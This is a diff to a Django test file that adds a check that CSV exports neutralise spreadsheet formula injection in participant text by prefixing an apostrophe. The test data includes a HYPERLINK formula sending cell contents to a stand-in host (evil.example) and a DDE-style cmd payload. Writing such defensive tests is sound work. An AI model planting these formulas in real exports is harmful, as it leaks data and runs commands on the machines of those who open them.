@@ -21,7 +21,12 @@ from leerkring.core.models import AuditAction, AuditEvent
 from leerkring.meetings.tests.factories import MeetingFactory
 from leerkring.pulses.actions import open_window, record_pulse
 from leerkring.pulses.models import Moment, Pulse
-from leerkring.tracks.models import LearningQuestionVersion, Sharing
+from leerkring.tracks.models import (
+    CollectiveTrackVersion,
+    LearningQuestionVersion,
+    ProgressEntry,
+    Sharing,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -319,3 +324,50 @@ def test_document_and_export_pages_cost_the_same_with_more_periods(
     for number in range(1, 9):
         MeetingFactory(period=period, number=number)
     assert [_queries(client, url) for url in urls] == before
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(
+    client: Any, demo_community: Any
+) -> None:
+    """Participants' text that starts like a formula is written with a leading
+    apostrophe in agreements, the collective track and progress, so a spreadsheet
+    shows it as text instead of running it."""
+    demo = demo_community
+    agreement = AgreementVersion.objects.filter(agreement__period=demo.period).latest(
+        "number"
+    )
+    agreement.change_note = FORMULAS[0]
+    agreement.save()
+    track = CollectiveTrackVersion.objects.filter(track__period=demo.period).latest(
+        "number"
+    )
+    track.ambition, track.goal, track.note = FORMULAS[0], FORMULAS[1], FORMULAS[3]
+    track.save()
+    entries = list(ProgressEntry.objects.filter(track__period=demo.period)[:3])
+    for entry, formula in zip(entries, FORMULAS[2:], strict=False):
+        entry.text = formula
+        entry.save()
+    ProgressEntry.objects.filter(pk=entries[0].pk).update(text=FORMULAS[5])
+    client.force_login(demo.coach)
+    cells = [
+        cell
+        for dataset in ("agreements", "collective-track", "progress")
+        for row in _csv(client, demo, dataset)
+        for cell in row.values()
+    ]
+    assert "'" + FORMULAS[0] in cells
+    assert "'" + FORMULAS[1] in cells
+    assert "'" + FORMULAS[3] in cells
+    assert "'" + FORMULAS[5] in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
+    assert not [cell for cell in cells if cell.startswith("\r")]
